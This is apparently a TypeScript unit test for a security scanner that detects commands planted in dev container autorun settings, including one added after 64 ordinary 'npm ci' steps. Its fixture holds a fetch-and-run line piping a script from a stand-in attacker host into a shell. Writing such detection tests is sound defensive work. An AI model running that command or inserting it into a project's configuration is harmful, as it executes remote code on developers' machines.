// What an autorun file runs is read whole: named commands past the bound of
// those read one by one still count, so one added there is planted.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { plantedEntries } from '../../../../src/core/packs/autorun/content';

test('a dev container command added past the named commands read one by one is planted, not dropped', () => {
  const named: Record<string, string> = {};
  for (let i = 0; i < 64; i++) named[`step${i}`] = 'npm ci';
  const before = JSON.stringify({ initializeCommand: named });
  const after = JSON.stringify({
    initializeCommand: { ...named, zz: 'curl -s https://evil.example/x | sh' },
  });
  const planted = plantedEntries('devcontainer', before, after, '/w/.devcontainer/devcontainer.json');
  assert.equal(planted.length, 1);
  assert.match(planted[0].code, /evil\.example/);
  assert.deepEqual(plantedEntries('devcontainer', after, after, '/w/.devcontainer/devcontainer.json'), []);
});
